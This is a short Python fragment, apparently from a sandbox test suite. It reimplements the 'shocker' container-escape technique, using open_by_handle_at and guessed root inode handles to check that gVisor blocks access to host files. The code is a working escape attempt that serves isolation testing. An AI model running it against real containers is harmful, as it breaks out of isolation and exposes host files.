# tries: to open files of the host by their file handles, as the exploit named shocker did
# stopped by: gVisor has no file handles, and CAP_DAC_READ_SEARCH is missing
# want: nothing
# on the host: succeeds

def shocker():
    """Takes the handle of a directory and asks for it back, which climbs anywhere."""
    handle = bytearray(struct.pack("Ii", 128, 0) + bytes(128))
    buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, b"{{dir}}" if os.path.exists("{{dir}}") else b"/workspace",
        ctypes.addressof(buffer), ctypes.addressof(mount), 0)
    directory = os.open("{{dir}}" if os.path.exists("{{dir}}") else "/workspace", os.O_RDONLY)
    opened = syscall("open_by_handle_at", directory, ctypes.addressof(buffer), os.O_RDONLY)
    return f"opened as descriptor {opened}"
attempt("open by handle", shocker)
for inode in (1, 2, 64, 128):
    def root():
        handle = bytearray(struct.pack("IiQ", 8, 1, inode))
        buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
        mount = os.open("/", os.O_RDONLY)
        return f"opened as {syscall('open_by_handle_at', mount, ctypes.addressof(buffer), os.O_RDONLY)}"
    attempt(f"inode {inode}", root)
